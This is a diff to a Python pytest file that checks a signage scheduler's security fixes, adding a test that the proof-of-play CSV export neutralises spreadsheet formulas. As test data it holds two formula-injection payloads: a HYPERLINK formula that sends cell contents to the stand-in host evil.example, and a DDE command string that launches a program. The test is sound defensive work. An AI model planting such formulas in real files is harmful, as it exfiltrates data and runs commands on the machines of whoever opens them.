@@ -1,16 +1,21 @@
 """Holes found by the second security review, attacked over real HTTP against the real scheduler on loopback.
 
 Each test fails on the code before its fix: password guessing through the API's Basic credentials (no
-throttle), one guesser behind the TLS proxy locking every colleague out, ...
+throttle), one guesser behind the TLS proxy locking every colleague out, spreadsheet formulas in the
+proof-of-play CSV, ...
 """
 
 from __future__ import annotations
 
+import csv
+import io
+import uuid
 from typing import Any
 
 import pytest
 import requests
-from web_support import WebClient
+from tests_support import enrol
+from web_support import WebClient, logged_in
 
 from scheduler.clientaddr import parse_networks
 
@@ -52,3 +57,24 @@ def test_one_guesser_behind_the_tls_proxy_does_not_lock_every_colleague_out(live
     colleague = WebClient(live_scheduler.url)
     colleague.http.headers["X-Forwarded-For"] = "198.51.100.7"
     assert colleague.login("admin", service.demo_accounts.admin_password).status_code == 303
+
+
+def test_report_csv_keeps_formulas_typed_by_staff_or_sent_by_a_player_as_text(live_scheduler: Any) -> None:
+    service = live_scheduler.service
+    token = enrol(live_scheduler, "desa-antibar", "TPC234")["token"]
+    editor = ("editor", service.demo_accounts.editor_password)
+    title = '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk jadwal")'
+    body = {"title": title, "targets": {"displays": ["desa-antibar"]}}
+    ann_id = _api(live_scheduler, "POST", "/announcements", editor, json=body).json()["announcement"]["id"]
+    now = service.now_iso()
+    events = [{"id": str(uuid.uuid4()), "item_id": item, "started_at": now, "ended_at": now, "duration_ms": 10000}
+              for item in (f"ann-{ann_id}", "@SUM(1+1)*cmd|' /C calc'!A0")]  # fmt: skip
+    sent = requests.post(f"{live_scheduler.url}/api/v1/player/play-events", json={"events": events},
+                         headers={"Authorization": f"Bearer {token}"}, timeout=TIMEOUT_S)  # fmt: skip
+    assert sent.status_code == 200 and sent.json()["accepted"] == 2, sent.text
+    exported = logged_in(live_scheduler, "admin").get("/admin/reports.csv")
+    assert exported.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    cells = [row[column] for row in rows for column in ("display_id", "display_name", "item_id", "title")]
+    assert "'" + title in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells, rows
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
